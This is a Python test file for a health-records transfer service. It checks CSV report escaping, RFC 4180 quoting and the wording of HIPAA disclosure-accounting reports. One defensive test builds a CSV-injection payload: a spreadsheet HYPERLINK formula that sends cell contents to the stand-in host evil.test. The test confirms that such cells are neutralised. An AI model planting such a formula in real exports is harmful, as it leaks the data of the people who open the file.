"""CSV that no spreadsheet calculates (OWASP, CSV injection), and that every program reads back (RFC 4180)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import DAY, NOW, a_disclosure, a_file, a_recipient, a_release, a_signed_release, an_organization
from transfer_service.domain.accounting import AccountLine, Period, summed
from transfer_service.domain.language import Language
from transfer_service.domain.packet import FileKind
from transfer_service.domain.printed import Table
from transfer_service.domain.release import Signature, Signer
from transfer_service.usecases.report_csv import as_csv, harmless
from transfer_service.usecases.report_document import as_document
from transfer_service.usecases.report_words import authority, how_much, often, what
from transfer_service.wording import words_in

ENGLISH = words_in(Language.ENGLISH)
FORMULAS = [*"=+-@", *"\uff1d\uff0b\uff0d\uff20"]  # wide ones too: some spreadsheets take them for the same


def lines(release=None, count=1, kind=FileKind.SLIDE, files=1, completed=True, **recipient):
    planned = [a_file(path=f"slides/A{number:02d}.svs", kind=kind) for number in range(files)]
    whom, under = a_recipient(**recipient), release or a_signed_release()
    of = {"recipient_id": whom.id, "release_id": under.id, "bytes_sent": 2048}
    left = [a_disclosure(**of, file_id=file.id) for file in planned for _ in range(count)]
    if completed:
        left = [a_disclosure(**of, file_id=each.file_id, completed_at=each.started_at) for each in left]
    known = {file.id: file for file in planned}
    return summed(AccountLine(each, whom, known[each.file_id], under) for each in left)


def rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", [*FORMULAS, *"\t\r\n"])
def test_a_cell_that_would_be_a_formula_is_a_text(start):
    typed = f'{start}HYPERLINK("https://evil.test/?"&A1,"x")'
    data = as_csv(lines(name=typed, organization=f" {typed}", release=a_signed_release(purpose=typed)), ENGLISH)
    for row in rows(data):
        for cell in row:
            assert cell.lstrip()[:1] not in FORMULAS
            assert cell[:1] not in {"\t", "\r", "\n"}
    assert rows(data)[1][1] == f"'{typed}"


@given(st.text(st.characters(codec="utf-8"), min_size=1))
def test_a_cell_without_a_formula_stays_as_it_is_and_every_cell_is_read_back(text):
    cell = harmless(text)
    assert cell in {text, f"'{text}"}
    assert rows(as_csv(lines(name=text), ENGLISH))[1][1] == cell


def test_rows_end_as_rfc_4180_says_and_every_cell_is_quoted():
    data = as_csv(lines(name='Dr. "R", Viewer\r\nand son'), ENGLISH).decode("utf-8-sig")
    assert data.endswith('"\r\n')
    assert '"Dr. ""R"", Viewer\r\nand son"' in data
    assert all(len(row) == 15 for row in rows(data.encode()))


def test_what_left_is_counted_by_kind_and_the_first_ten_are_named():
    (line,) = lines(files=12)
    said = what(line, ENGLISH)
    assert said.startswith("12 slide scans: slides/A00.svs, slides/A01.svs")
    assert said.endswith("slides/A09.svs, and 2 more")
    (line,) = lines(kind=FileKind.RADIOLOGY)
    assert what(line, ENGLISH) == "1 X-ray image (such as a mammogram): slides/A00.svs"


def test_whose_signature_covers_it_is_said():
    (own,), (unsigned,) = lines(), lines(a_release())
    signature = Signature("Grace Example", Signer.REPRESENTATIVE, "legal guardian", "ada@patient.test")
    (others,) = lines(a_signed_release(signature=signature))
    assert authority(own.first, ENGLISH).startswith("Permission signed by the patient on May 12, 2026 (form SHA-256:")
    assert authority(others.first, ENGLISH).startswith("Permission signed for the patient on May 12, 2026")
    assert authority(unsigned.first, ENGLISH) == "Without a signed permission"


def test_how_often_and_how_much_are_said():
    (once,), (thrice,), (begun,) = lines(), lines(count=3), lines(completed=False)
    assert (often(once, ENGLISH), how_much(once, ENGLISH)) == ("Once", "2.0 KB; every file complete")
    assert often(thrice, ENGLISH) == "3 times, the last on May 12, 2026"
    assert how_much(begun, ENGLISH) == "2.0 KB; 0 of 1 files complete"


def test_a_document_says_by_which_paragraph_a_disclosure_is_exempt_or_that_an_accounting_is_owed():
    about = (an_organization(), None, Period(NOW - DAY, NOW), NOW)
    exempt, owed = lines(a_signed_release()), lines(a_signed_release(basis="required by law"))
    for report, said in ((exempt, "164.528(a)(1)(iv)."), (owed, "An accounting of it is owed (164.528(a)(1)).")):
        (table,) = [block for block in as_document(report, about, ENGLISH).blocks if isinstance(block, Table)]
        assert table.rows[0][3].endswith(said)
